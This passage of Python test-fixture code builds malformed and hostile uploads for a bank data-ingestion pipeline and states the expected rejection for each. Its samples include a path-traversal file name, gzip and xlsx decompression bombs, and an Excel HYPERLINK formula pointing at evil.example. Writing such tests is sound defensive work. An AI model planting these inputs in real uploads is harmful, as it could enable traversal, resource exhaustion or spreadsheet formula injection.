    refused("invalid_bytes_gb18030", good_gb[:cut] + b"\xff" + good_gb[cut:], "UNREADABLE")

    # Excel's "Unicode text": UTF-16 with a BOM, tab-delimited
    refused("utf16_unicode_text", delimited(head, body, delimiter="\t", encoding="utf-16"), "UNREADABLE")

    # an opening quote that never closes swallows the rest of the file
    broken = [list(r) for r in body]
    raw = text(head, broken)
    cell = "温州fl测试第16号有限公司".encode("gb18030")
    refused("unterminated_quote", raw.replace(cell, b'"' + cell, 1), "UNREADABLE")

    # one line of 2 MiB: no bank row is that long, and it must not be held in memory
    huge = raw.replace(cell, cell + b"A" * (2 << 20), 1)
    refused("huge_line", huge, "UNREADABLE")
    # one cell past the 64 Ki character limit, in a line under the line limit
    big_cell = raw.replace(cell, cell + b"B" * (80 << 10), 1)
    refused("huge_cell", big_cell, "UNREADABLE")

    # the upload was cut: the last line stops mid-row, without its newline
    rows_t = [elic_row("truncated", i, "WZB-O01") for i in range(GOOD + 1)]
    full = render("WZB", Dataset.ELIC, rows_t)
    last = full.rstrip(b"\n").rindex(b"\n") + 1
    fifth_bar = [i for i in range(last, len(full)) if full[i] == ord("|")][4]
    truncated = full[:fifth_bar]  # 5 of 12 cells, no newline
    b.file(
        "truncated_last_line", "WZB", Dataset.ELIC, truncated, "partially_accepted",
        reasons=["MALFORMED_ROW"], rows=(GOOD + 1, GOOD, 1), lines=[(GOOD + 2, "MALFORMED_ROW")],
        ok=lambda d: ok_file(d, GOOD + 1), exact_lines=True,
    )

    # control files
    rows_ok = [elic_row("ok_rows", i, "WZB-O01") for i in range(GOOD)]
    data = render("WZB", Dataset.ELIC, rows_ok)
    b.file(
        "ok_rows_mismatch", "WZB", Dataset.ELIC, data, "rejected", reasons=["OK_ROWS_MISMATCH"],
        rows=(GOOD, 0, GOOD), ok=lambda d: ok_file(d, GOOD + 3),
    )
    data = render("WZB", Dataset.ELIC, [elic_row("ok_sha", i, "WZB-O01") for i in range(GOOD)])
    refused("ok_sha256_mismatch", data, "OK_SHA256_MISMATCH", ok=b"sha256=" + hashlib.sha256(b"other").hexdigest().encode())
    data = render("WZB", Dataset.ELIC, [elic_row("ok_garbage", i, "WZB-O01") for i in range(GOOD)])
    refused("ok_garbage", data, "OK_INVALID", ok=b"all good, 30 rows\n")
    data = render("WZB", Dataset.ELIC, [elic_row("ok_sup", i, "WZB-O01") for i in range(GOOD)])
    refused("ok_rows_not_ascii_digits", data, "OK_INVALID", ok="rows=３０²\n".encode())
    data = render("WZB", Dataset.ELIC, [elic_row("no_ok", i, "WZB-O01") for i in range(GOOD)])
    b.file("no_ok_still_uploading", "WZB", Dataset.ELIC, data, None, ok=None)

    # file names
    data = render("WZB", Dataset.ELIC, [elic_row("bad_name", i, "WZB-O01") for i in range(3)])
    refused("name_breaks_pattern", data, "FILE_NAME_INVALID", name="ELIC_WZB_2023-06-05.txt")
    data = render("WZB", Dataset.ELIC, [elic_row("other_bank", i, "WZB-O01") for i in range(3)])
    refused("name_other_bank", data, "BANK_MISMATCH", name="ELIC_ICBCOH_20230605.csv")
    data = render("WZB", Dataset.ELIC, [elic_row("traversal", i, "WZB-O01") for i in range(3)])
    refused("name_path_traversal", data, "FILE_NAME_INVALID", name="ELIC_WZB_..\\..\\..\\20230605.txt")
    data = render("WZB", Dataset.ELIC, [elic_row("newline_name", i, "WZB-O01") for i in range(3)])
    refused("name_trailing_newline", data, "FILE_NAME_INVALID", name="ELIC_WZB_20230605_97.txt\n")
    data = render("WZB", Dataset.ELIC, [elic_row("wide_digits", i, "WZB-O01") for i in range(3)])
    refused("name_fullwidth_digits", data, "FILE_NAME_INVALID", name="ELIC_WZB_２０２３０６０５.txt")
    data = render("NOBANK", Dataset.ELIC, [elic_row("nobank", i, "NB-O01") for i in range(3)])
    b.file(
        "bank_without_contract", "NOBANK", Dataset.ELIC, data, "rejected", reasons=["NO_CONTRACT"],
        rows=(0, 0, 0),
    )


def _gzip(b: _Builder) -> None:
    """ABCOH sends gzip-compressed csv."""
    rows = [elic_row("gz", i, "ABCOH-O01") for i in range(GOOD)]
    plain = delimited(*table("ABCOH", Dataset.ELIC, rows), delimiter=",", encoding="utf-8-sig")
    packed = gz(plain)

    def refused(id: str, data: bytes, reason: str) -> None:
        b.file(id, "ABCOH", Dataset.ELIC, data, "rejected", reasons=[reason], rows=(0, 0, 0))

    corrupt = bytearray(packed)
    for i in range(20, len(corrupt) - 8, 7):
        corrupt[i] ^= 0x5A
    refused("gzip_corrupt", bytes(corrupt), "UNREADABLE")
    refused("gzip_truncated", packed[: len(packed) // 2], "UNREADABLE")
    refused("gzip_not_gzip", plain, "UNREADABLE")
    crc_bad = bytearray(gz(plain.replace(b"gz-0", b"gz-X")))
    crc_bad[-8] ^= 0xFF
    refused("gzip_bad_crc", bytes(crc_bad), "UNREADABLE")
    head = plain.split(b"\r\n", 1)[0] + b"\r\n"
    refused("gzip_bomb", gzip_bomb(head, 64 << 20), "FILE_TOO_LARGE")
    # a header-only file: byte-identical to ICBCOH's below
    b.file(
        "header_only_gz_bank_a", "ABCOH", Dataset.ELIC,
        delimited(table("ABCOH", Dataset.ELIC, [])[0], [], delimiter=",", encoding="utf-8"),
        "accepted", rows=(0, 0, 0), name="ELIC_ABCOH_20230605.csv",
    )
    b.file(
        "header_only_same_bytes_bank_b", "ICBCOH", Dataset.ELIC,
        delimited(table("ABCOH", Dataset.ELIC, [])[0], [], delimiter=",", encoding="utf-8"),
        "accepted", rows=(0, 0, 0),
    )


def _xlsx(b: _Builder) -> None:
    """OHRCB sends xlsx workbooks."""
    head, _ = table("OHRCB", Dataset.ELIC, [])
    cols = field_names(Dataset.ELIC)

    def sheet(rows: Sequence[Row], cell: Callable[[str, object], object]) -> list[list[object]]:
        return [head, *[[cell(c, r.get(c)) for c in cols] for r in rows]]

    def typed(c: str, v: object) -> object:
        if isinstance(v, dt.date):
            return ExcelDate(v)
        return v

    def as_text(c: str, v: object) -> object:
        if isinstance(v, dt.date):
            return v.isoformat()
        return None if v is None else str(v)

    rows = [elic_row("x_typed", i, "OHRCB-O01") for i in range(GOOD)]
    # binary floating point noise as Excel stores a computed amount: it shows 1234.56
    rows[1]["credit_amount"] = Decimal("1234.5600000000001")
    rows[1]["drawn_amount"] = Decimal("1000.1000000000001")
    b.accepted(
        "xlsx_typed_cells", "OHRCB", rows, xlsx(sheet(rows, typed)),
        stored=[("x_typed-001", "credit_amount_yuan", Decimal("1234.56")),
                ("x_typed-001", "drawn_amount_yuan", Decimal("1000.10")),
                ("x_typed-002", "biz_date", BIZ_DAY)],
    )
    rows = [elic_row("x_text", i, "OHRCB-O01") for i in range(GOOD)]
    b.accepted(
        "xlsx_numbers_as_text", "OHRCB", rows, xlsx(sheet(rows, as_text)),
        stored=[("x_text-001", "drawn_amount_yuan", Decimal("300000.00"))],
    )

    rows = [elic_row("x_formula", i, "OHRCB-O01", loan=True) for i in range(GOOD)]

    def formulas(c: str, v: object) -> object:
        if c == "credit_amount":
            return Formula("250000*2", 500000)
        if c == "enterprise_name":
            return Formula(f'HYPERLINK("http://evil.example","{v}")', v)
        return typed(c, v)

    b.accepted(
        "xlsx_formulas_cached", "OHRCB", rows, xlsx(sheet(rows, formulas)),
        stored=[("x_formula-002", "credit_amount_yuan", Decimal("500000.00")),
                ("x_formula-002", "enterprise_name", "温州x_formula测试第2号有限公司")],
    )
    # a formula without a cached value (a workbook written by a library, never opened
    # in Excel) is an empty cell: the loan misses its amount
    rows = with_bad("x_nocache", "OHRCB-O01", {})
    grid: list[list[object]] = [head]
    for i, r in enumerate(rows):
        grid.append([
            Formula("250000*2") if i == BAD_AT and c == "credit_amount" else typed(c, r.get(c))
            for c in cols
        ])
    b.file(
        "xlsx_formula_without_value", "OHRCB", Dataset.ELIC, xlsx(grid), "partially_accepted",
        reasons=["LOAN_AMOUNT_MISSING"], rows=(GOOD + 1, GOOD, 1),
        lines=[(BAD_AT + 2, "LOAN_AMOUNT_MISSING")], exact_lines=True,
    )

    def refused(id: str, data: bytes, reason: str) -> None:
        b.file(id, "OHRCB", Dataset.ELIC, data, "rejected", reasons=[reason], rows=(0, 0, 0))

    good = xlsx(sheet([elic_row("x_corrupt", i, "OHRCB-O01") for i in range(GOOD)], typed))
    refused("xlsx_corrupt", good[: len(good) * 2 // 3], "UNREADABLE")
    refused("xlsx_password_protected", encrypted_ole(), "UNREADABLE")
    refused("xlsx_no_sheets", xlsx(None), "UNREADABLE")
    refused("xlsx_empty_sheet", xlsx([]), "EMPTY_FILE")
    refused("xlsx_not_a_zip", "业务流水号,企业名称\n".encode(), "UNREADABLE")
    refused("xlsx_bomb", xlsx([head], padding=4 * BOMB_CAP), "FILE_TOO_LARGE")


def build_corpus() -> list[Case]:
    """Every case, in the order written; the pipeline sorts each inbox itself."""
    b = _Builder()
    _outlets(b)
    _row_level(b)
    _accepted_oddities(b)
    _file_level(b)
    _gzip(b)
    _xlsx(b)
    names = [(c.bank, c.name) for c in b.cases]
    assert len(names) == len(set(names)), "two cases share a file name"
    return b.cases


def write_corpus(cases: Sequence[Case], landing: Path) -> None:
    """Upload every case like a bank: the data file first, then its ``.ok``."""
    root = Path(landing)
    for bank in BANKS:
        (root / bank / "inbox").mkdir(parents=True, exist_ok=True)
        (root / bank / "outbox").mkdir(parents=True, exist_ok=True)
    for c in cases:
        inbox = root / c.bank / "inbox"
        (inbox / c.name).write_bytes(c.data)
        if c.ok is not None:
            (inbox / f"{c.name}.ok").write_bytes(c.ok)


def by_id(cases: Sequence[Case]) -> dict[str, Case]:
    return {c.id: c for c in cases}
